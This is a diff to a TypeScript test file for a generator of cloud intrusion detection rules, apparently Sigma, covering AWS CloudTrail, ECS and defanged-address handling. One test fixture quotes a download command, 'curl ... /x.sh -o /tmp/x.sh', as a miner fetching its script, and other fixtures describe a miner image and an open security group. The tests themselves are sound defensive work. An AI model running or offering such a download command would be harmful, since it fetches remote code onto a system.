@@ -3,7 +3,7 @@ import { validateRuleDocument } from '../validate/validate-rule';
 import { fidelityCheck } from '../vetting/fidelity';
 import { detectionValues } from '../vetting/detection-values';
 import { generateBuiltinRules, type BuiltinSigmaInput } from './builtin-sigma-agent';
-import { statedCloudBehaviours } from './cloud-rules';
+import { cloudSourceAddresses, statedCloudBehaviours } from './cloud-rules';
 
 // Cloud and identity intrusions written for these tests: what an AWS, Entra ID or Okta write-up says, in the
 // words such write-ups use. None comes from a fixture article.
@@ -43,8 +43,9 @@ describe('cloud and identity behaviour rules', () => {
     const drafts = rulesOf(AWS_NOTE, ['198.51.100.23']).filter((draft) => draft.telemetryClass === 'cloud_audit');
     expect(drafts.map((draft) => draft.rule.title).sort()).toEqual([
       'AWS CloudTrail Logging Stopped Or Trail Modified',
-      'AWS IAM Access Key Or Console Password Created',
+      'AWS IAM Access Key Created',
       'AWS IAM Permissions Granted To A User, Role Or Group',
+      'AWS Secrets Manager Secrets Or SSM Parameters Listed',
     ]);
     const trail = drafts.find((draft) => draft.rule.title.startsWith('AWS CloudTrail'));
     expect(trail?.rule.logsource).toEqual({ product: 'aws', service: 'cloudtrail' });
@@ -74,11 +75,18 @@ describe('cloud and identity behaviour rules', () => {
     expect(sweep?.rule.description).toContain('ListBuckets');
   });
 
-  it('keeps an endpoint connection rule when the article also quotes commands', () => {
-    const cmdline = { value: 'curl -s http://198.51.100.23/x.sh -o /tmp/x.sh', executable: 'curl', evidence, confidence: 0.9 };
-    const drafts = rulesOf(AWS_NOTE, ['198.51.100.23'], { cmdlines: [cmdline] });
+  it('keeps an endpoint connection rule when the article also quotes commands, sweeping in CloudTrail only the addresses the calls came from', () => {
+    const cmdline = { value: 'curl -s http://198.51.100.99/x.sh -o /tmp/x.sh', executable: 'curl', evidence, confidence: 0.9 };
+    const note = `${AWS_NOTE}\nOn the instance the miner then fetched its script from 198.51.100.99.`;
+    const drafts = rulesOf(note, ['198.51.100.23', '198.51.100.99'], { cmdlines: [cmdline] });
     expect(drafts.some((draft) => draft.telemetryClass === 'network_connection')).toBe(true);
-    expect(drafts.some((draft) => draft.telemetryClass === 'cloud_indicator')).toBe(false);
+    const swept = drafts.filter((draft) => draft.telemetryClass === 'cloud_indicator');
+    expect(swept.map((draft) => draft.rule.detection['selection'])).toEqual([{ sourceIPAddress: ['198.51.100.23'] }]);
+    expect(selfTestGenerated(swept[0]?.rule as unknown as Record<string, unknown>, observables(['198.51.100.23']), note).fires).toBe(true);
+    // Written defanged, the address is the same one.
+    expect(
+      cloudSourceAddresses('CloudTrail showed the calls came from 198.51.100[.]23.', [{ kind: 'ipv4', value: '198.51.100.23' }]),
+    ).toEqual(['198.51.100.23']);
   });
 
   it('reads Entra ID behaviours from prose and sweeps the addresses in the sign-in logs', () => {
@@ -156,22 +164,24 @@ describe('cloud and identity behaviour rules', () => {
         eventName: 'AuthorizeSecurityGroupIngress',
         'requestParameters.ipPermissions.items.ipRanges.items.cidrIp': '0.0.0.0/0',
       },
-      selection_3: {
+      condition: '1 of selection_*',
+    });
+    // The task definition's image keys the ECS rule, beside the task run (not routine: no parameter needed).
+    const ecs = drafts.find((draft) => draft.rule.title === 'AWS ECS Cluster, Task Definition Or Service Created');
+    expect(ecs?.rule.detection).toEqual({
+      selection_1: {
         eventSource: 'ecs.amazonaws.com',
         eventName: 'RegisterTaskDefinition',
         'requestParameters.containerDefinitions.image': 'minerco/xmr-worker:v2',
       },
+      selection_2: { eventSource: 'ecs.amazonaws.com', eventName: ['CreateCluster', 'RunTask'] },
       condition: '1 of selection_*',
     });
     const rule = compute?.rule as unknown as Record<string, unknown>;
     expect(validateRuleDocument(rule).findings).toEqual([]);
     expect(fidelityCheck(detectionValues(rule), [MINER_NOTE])).toEqual({ ok: true, unsupported_values: [] });
     const result = selfTestGenerated(rule, [], MINER_NOTE);
-    expect(result.fired_on.sort()).toEqual([
-      'cloud: AuthorizeSecurityGroupIngress',
-      'cloud: RegisterTaskDefinition',
-      'cloud: RunInstances',
-    ]);
+    expect(result.fired_on.sort()).toEqual(['cloud: AuthorizeSecurityGroupIngress', 'cloud: RunInstances']);
     // The same calls with other parameters are every account's: the rule does not fire on them.
     const routine = 'In AWS CloudTrail the actor called RunInstances for a t3.micro and AuthorizeSecurityGroupIngress for 10.0.0.0/8.';
     expect(selfTestGenerated(rule, [], routine).fires).toBe(false);
